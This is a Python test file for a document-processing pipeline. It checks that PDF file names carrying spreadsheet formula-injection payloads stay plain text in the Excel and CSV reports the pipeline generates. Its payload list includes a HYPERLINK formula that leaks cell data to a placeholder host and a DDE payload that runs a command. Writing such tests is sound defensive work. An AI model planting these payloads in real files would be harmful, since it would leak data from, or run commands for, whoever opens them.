"""Names from the inbox never become spreadsheet formulas (Excel workbook and CSV)."""

from __future__ import annotations

import pytest

import csv
import io
import zipfile

import openpyxl

from pipeline.gaps.build import build_gaps, gaps_csv
from pipeline.reports.inert import inert_csv
from pipeline.ledger.ledger import Ledger
from pipeline.process import process_inbox
from pipeline.reports.data import report_data
from pipeline.reports.xlsx import write_xlsx

from .conftest import ROOT
from .makers import digital_pdf

# Tests of intake, ledger, reports and the review page: the model is the keyword stand-in (tests/fake_classifier.py).
pytestmark = pytest.mark.usefixtures("keyword_classifier")

PAYLOADS = ['=HYPERLINK("evil.example?leak="&A1,"klik")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)"]


def test_payload_names_stay_text_in_workbook_and_csv(settings, tmp_path):
    text = (ROOT / "samples" / "texts" / "laporan-imunisasi.txt").read_text()
    for i, payload in enumerate(PAYLOADS):
        digital_pdf(settings.inbox / "=1+2" / f"{payload}.pdf", text + f"\nSalinan {i}.")  # evidence rows
        (settings.inbox / "=1+2" / f"{payload} kosong.pdf").write_bytes(b"")  # quarantine sheet rows
    import dataclasses
    settings = dataclasses.replace(settings, assessment_year=2025)
    process_inbox(settings)
    ledger = Ledger(settings.database_url)
    try:
        from pipeline.classify.persist import load_model
        gaps = build_gaps(ledger, load_model(settings.model_dir).thresholds, 2025)
        data = report_data(ledger, gaps)
    finally:
        ledger.close()
    assert any(e.path.startswith("=1+2/") for c in gaps.criteria for e in c.evidence)

    out = write_xlsx(data, tmp_path / "r.xlsx", link_base="http://bukti.pemkot.go.id")
    with zipfile.ZipFile(out) as zf:  # what any spreadsheet program reads: no formula element anywhere
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    book = openpyxl.load_workbook(out)
    values = {str(cell.value) for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value}
    assert all(cell.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for cell in row)
    assert any(v.startswith('=1+2/=HYPERLINK(') for v in values)  # kept, as text
    assert "=1+2" in values  # the OPD cell

    rows = list(csv.reader(io.StringIO(gaps_csv(gaps))))
    fields = [f for row in rows for f in row]
    assert not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in fields)
    assert any(f == "'=1+2" for f in fields)


def test_inert_csv_leaves_ordinary_values_alone():
    assert inert_csv("dinkes/laporan.pdf") == "dinkes/laporan.pdf" and inert_csv(0.93) == 0.93
    assert inert_csv("\t=1") == "'\t=1" and inert_csv("-1") == "'-1"
